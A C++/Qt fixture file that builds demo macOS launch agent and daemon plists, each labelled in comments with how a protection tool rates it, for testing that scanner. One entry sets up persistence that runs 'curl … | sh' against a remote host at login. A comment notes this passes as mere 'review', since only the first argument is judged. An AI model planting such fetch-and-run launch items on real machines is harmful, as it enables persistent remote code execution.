// Launch agents and daemons, one for each way the protection rules rate a
// launch item. Paths inside the lists are where the programs would be on the
// Mac; the demo only names them and never writes outside its own tree.
#include "DemoAreas.h"
#include "DemoTree.h"

#include <QList>
#include <QVariantMap>

namespace {

struct LaunchItem
{
    QString file; // relative to the tree root
    QVariantMap keys;
    bool binary = false;
};

const QString kUser = DemoTree::home(QStringLiteral("Library/LaunchAgents/"));
const QString kAgents = QStringLiteral("Library/LaunchAgents/");
const QString kDaemons = QStringLiteral("Library/LaunchDaemons/");

QVariantList args(std::initializer_list<const char *> list)
{
    QVariantList out;
    for (const char *arg : list)
        out << QString::fromUtf8(arg);
    return out;
}

QList<LaunchItem> userAgents()
{
    return {
        // An ordinary updater: review, starts at login.
        {kUser + "com.driftbrowser.update.plist",
         {{"Label", "com.driftbrowser.update"},
          {"ProgramArguments",
           args({"/Applications/Drift Browser.app/Contents/MacOS/Drift Browser", "--check"})},
          {"RunAtLoad", true},
          {"StartInterval", qint64(3600)}}},
        // Review with nothing but its executable.
        {kUser + "com.lumenlabs.LumenNotes.sync.plist",
         {{"Label", "com.lumenlabs.LumenNotes.sync"},
          {"Program", "/Applications/Lumen Notes.app/Contents/MacOS/Lumen Notes"}},
         true},
        // Dangerous: a program in a hidden folder, started and kept alive.
        {kUser + "com.sysupdate.agent.plist",
         {{"Label", "com.sysupdate.agent"},
          {"ProgramArguments", args({"/Users/demo/.local/share/.sysupdate/agent"})},
          {"RunAtLoad", true},
          {"KeepAlive", true}}},
        // Suspicious: a script from Downloads that nothing starts by itself.
        {kUser + "local.cleanup.plist",
         {{"Label", "local.cleanup"}, {"Program", "/Users/demo/Downloads/cleanup.command"}}},
        // A shell told to run a downloaded script: only the first argument is
        // judged, and /bin/sh is an ordinary place, so this rates review.
        {kUser + "com.mediahelper.loader.plist",
         {{"Label", "com.mediahelper.loader"},
          {"ProgramArguments", args({"/bin/sh", "-c", "curl -fsSL http://198.51.100.7/p.sh | sh"})},
          {"RunAtLoad", true}}},
        // Dangerous: kept alive through a dictionary, without RunAtLoad.
        {kUser + "com.example.watchdog.plist",
         {{"Label", "com.example.watchdog"},
          {"Program", "/tmp/.x/run"},
          {"KeepAlive", QVariantMap{{"SuccessfulExit", false}}}}},
        // Never listed: hidden.
        {kUser + ".com.hidden.agent.plist",
         {{"Label", "com.hidden.agent"}, {"Program", "/tmp/hidden"}, {"RunAtLoad", true}}},
    };
}

QList<LaunchItem> systemItems()
{
    return {
        // Protected: an Apple label wins over a program in /tmp.
        {kAgents + "com.apple.mdworker.helper.plist",
         {{"Label", "com.apple.mdworker.helper"},
          {"Program", "/tmp/mdworker"},
          {"RunAtLoad", true}}},
        {kAgents + "com.vendor.printerutility.plist",
         {{"Label", "com.vendor.printerutility"},
          {"ProgramArguments", args({"/Library/Application Support/Vendor/PrinterUtility.app/"
                                     "Contents/MacOS/PrinterUtility"})},
          {"RunAtLoad", true}}},
        // Dangerous: a hidden program under /Users/Shared, started at load.
        {kAgents + "org.shared.sync.plist",
         {{"Label", "org.shared.sync"},
          {"ProgramArguments", args({"/Users/Shared/.sync/syncd", "--daemon"})},
          {"RunAtLoad", true}}},
        {kAgents + "com.adsupport.search.plist",
         {{"Label", "com.adsupport.search"},
          {"Program", "/private/var/tmp/searchd"},
          {"KeepAlive", true}},
         true},
        // Suspicious: a shell script in Downloads.
        {kAgents + "com.fontcache.refresh.plist",
         {{"Label", "com.fontcache.refresh"},
          {"ProgramArguments", args({"/Users/demo/Downloads/fix-fonts.sh"})}}},
        // Protected: Apple's label, and a program under /usr/libexec/.
        {kDaemons + "com.apple.backupd-helper.plist",
         {{"Label", "com.apple.backupd-helper"},
          {"Program",
           "/System/Library/CoreServices/backupd.bundle/Contents/Resources/backupd-helper"},
          {"RunAtLoad", true}},
         true},
        {kDaemons + "com.vendor.smartd.plist",
         {{"Label", "com.vendor.smartd"}, {"Program", "/usr/libexec/smartd"}, {"KeepAlive", true}}},
        // Review, starts and stays: the helper of Orbit VPN.
        {kDaemons + "io.orbitvpn.helper.plist",
         {{"Label", "io.orbitvpn.helper"},
          {"ProgramArguments", args({"/Library/PrivilegedHelperTools/io.orbitvpn.helper"})},
          {"RunAtLoad", true},
          {"KeepAlive", true}}},
        {kDaemons + "com.tmp.runner.plist",
         {{"Label", "com.tmp.runner"}, {"ProgramArguments", args({"/tmp/runner.sh"})}}},
        // Review: no program at all.
        {kDaemons + "com.missing.program.plist",
         {{"Label", "com.missing.program"}, {"RunAtLoad", true}}},
        // Review: values of the wrong types count as absent.
        {kDaemons + "com.odd.types.plist",
         {{"Label", "com.odd.types"},
          {"Program", qint64(42)},
          {"ProgramArguments", "/tmp/not-a-list"},
          {"RunAtLoad", "yes"}}},
    };
}

} // namespace

namespace Demo {

void buildLaunchItems(DemoTree &tree)
{
    TreeBuilder &b = tree.builder();
    for (const LaunchItem &item : userAgents() + systemItems())
        b.plist(item.file, item.keys, item.binary);
    // Not a property list: rated from an empty dictionary, by its file name.
    b.file(kUser + "com.broken.agent.plist", "<?xml version=\"1.0\"?>\n<plist><dict><key>La");
    // Not a ".plist": not a launch item.
    b.file(kUser + "LEEME.txt", "Agentes de inicio de la demo de Velmora.\n");
}

} // namespace Demo
